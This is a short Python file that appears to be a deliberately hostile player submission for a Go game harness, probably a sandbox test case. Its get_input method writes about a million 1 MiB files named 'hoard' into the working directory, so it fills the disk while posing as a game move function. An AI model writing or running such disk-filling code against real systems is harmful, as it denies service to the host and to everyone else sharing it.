"""Writes to its own folder until the disk is full."""


class MyPlayer:
    def get_input(self, go, piece_type):
        for number in range(1 << 20):
            with open(f"./hoard{number}", "wb") as file:
                file.write(bytes(1 << 20))
